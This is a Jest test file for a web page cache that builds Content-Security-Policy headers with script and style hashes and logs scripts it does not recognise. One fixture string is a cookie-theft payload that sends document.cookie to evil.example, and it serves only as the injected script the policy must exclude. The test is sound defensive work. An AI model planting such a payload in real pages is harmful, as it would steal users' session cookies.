import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { jest } from '@jest/globals';

const logSecurityEvent = jest.fn();
jest.unstable_mockModule('@/lib/logging/log.mjs', () => ({
  logSecurityEvent,
  log: { error: jest.fn() },
}));
const { finishBuild, openPageCache, page } = await import('@/test-support/page-cache');

const FLIGHT = 'self.__next_f.push([1,"text"])';
const INJECTED = 'fetch("https://evil.example/"+document.cookie)';
const KEY = '/sites/shop.example/policies/terms';
const hash = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

let folder: string;

beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'page-policy-'));
  finishBuild(folder);
  logSecurityEvent.mockClear();
});
afterEach(() => {
  delete process.env.PAYMENT_HOSTS;
  rmSync(folder, { recursive: true });
});

const createCache = () => openPageCache(folder);
const pageOf = (html: string) => page('shop.example', html);
const POLICY_TERMS = `<main><h1>Terms</h1><script>${INJECTED}</script></main><script>${FLIGHT}</script>`;
const policyOf = (value: object | null | undefined) =>
  String(Reflect.get(Object(Reflect.get(Object(value), 'headers')), 'content-security-policy'));

test('a page that was rendered with a script in its content does not allow that script', async () => {
  const value = pageOf(POLICY_TERMS);
  await createCache().set(KEY, value, { kind: 'APP_PAGE' });
  expect(policyOf(value)).toContain(hash(FLIGHT));
  expect(policyOf(value)).not.toContain(hash(INJECTED));
  expect(logSecurityEvent.mock.calls).toEqual([
    ['unknown-script', { path: KEY, hash: hash(INJECTED), length: INJECTED.length }],
  ]);
});

test('a kept page follows settings that were changed since', async () => {
  await createCache().set(KEY, pageOf(POLICY_TERMS), { kind: 'APP_PAGE' });
  process.env.PAYMENT_HOSTS = 'pay.example';
  const entry = await createCache().get(KEY, { kind: 'APP_PAGE' });
  expect(policyOf(entry?.value)).toContain("form-action 'self' https://pay.example;");
  expect(policyOf(entry?.value)).toContain(hash(FLIGHT));
  expect(policyOf(entry?.value)).not.toContain(hash(INJECTED));
});

test('a kept page allows plain http only on a site that is on http', async () => {
  const cache = createCache();
  const [https, http] = [pageOf('<p></p>'), page('localhost', '<p></p>')];
  await cache.set(KEY, https, { kind: 'APP_PAGE' });
  await cache.set('/sites/localhost/policies/terms', http, { kind: 'APP_PAGE' });
  expect(policyOf(https)).not.toContain('http:');
  expect(policyOf(http)).toContain('img-src ');
  expect(policyOf(http)).toContain('http:');
});

test('the style sheet is in what is sent and in the policy, and not in what is stored', async () => {
  const css = 'a{color:red}';
  mkdirSync(path.join(folder, 'static', 'chunks'), { recursive: true });
  writeFileSync(path.join(folder, 'static', 'chunks', 'a.css'), css);
  const link = '<link rel="stylesheet" href="/_next/static/chunks/a.css" data-precedence="next"/>';
  const value = pageOf(`<html><head>${link}</head><body></body></html>`);
  await createCache().set(KEY, value, { kind: 'APP_PAGE' });
  const entry = await createCache().get(KEY, { kind: 'APP_PAGE' });
  for (const sent of [value, entry?.value]) {
    expect(sent).toHaveProperty('html', expect.stringContaining(`<head><style>${css}</style><link`));
    expect(policyOf(sent)).toContain(`style-src 'self' ${hash(css)} `);
  }
  const pages = path.join(folder, 'cache', 'pages', 'a');
  for (const name of readdirSync(pages))
    expect(readFileSync(path.join(pages, name), 'utf8')).not.toContain(css);
});
